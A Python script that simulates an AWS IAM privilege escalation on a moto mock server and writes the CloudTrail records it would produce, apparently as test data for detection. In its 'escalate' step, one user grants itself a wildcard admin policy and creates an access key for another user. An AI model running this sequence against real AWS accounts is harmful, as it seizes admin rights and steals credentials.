#!/usr/bin/env python3
"""An escalation on a moto server, and the records that CloudTrail would write of it.

usage: escalate.py before|escalate ENDPOINT TRAIL_FOLDER
"""
import datetime
import json
import sys
import uuid

import boto3

STEP, ENDPOINT, TRAIL = sys.argv[1:]
ACCOUNT = "123456789012"
KEY = "AKIAMALLORY000000000"
records = []
iam = boto3.client("iam", endpoint_url=ENDPOINT, region_name="us-east-1", aws_access_key_id="test", aws_secret_access_key="test")


def record(name, request, response=None, source="iam", user="mallory", key=KEY, address="198.51.100.23"):
    now = datetime.datetime.now(datetime.timezone.utc)
    records.append({
        "eventVersion": "1.11", "eventTime": now.strftime("%Y-%m-%dT%H:%M:%SZ"), "eventSource": f"{source}.amazonaws.com", "eventName": name,
        "awsRegion": "us-east-1", "sourceIPAddress": address, "userAgent": "Boto3/1.34", "requestParameters": request,
        "responseElements": response, "eventID": str(uuid.uuid4()), "eventType": "AwsApiCall", "recipientAccountId": ACCOUNT,
        "userIdentity": {"type": "IAMUser", "userName": user, "arn": f"arn:aws:iam::{ACCOUNT}:user/{user}", "accountId": ACCOUNT, "accessKeyId": key},
    })


def policy(action, resource):
    return json.dumps({"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": action, "Resource": resource}]})


if STEP == "before":
    for user in ["mallory", "victim"]:
        iam.create_user(UserName=user)
    iam.put_user_policy(UserName="mallory", PolicyName="own", PolicyDocument=policy("s3:GetObject", "*"))
    record("ListUsers", None)
else:
    record("GetCallerIdentity", None, source="sts")
    document = policy("*", "*")
    iam.put_user_policy(UserName="mallory", PolicyName="own", PolicyDocument=document)
    record("PutUserPolicy", {"userName": "mallory", "policyName": "own", "policyDocument": document})
    key = iam.create_access_key(UserName="victim")["AccessKey"]
    record("CreateAccessKey", {"userName": "victim"}, {"accessKey": {"userName": "victim", "accessKeyId": key["AccessKeyId"], "status": "Active"}})
with open(f"{TRAIL}/{STEP}.json", "w") as f:
    json.dump({"Records": records}, f)
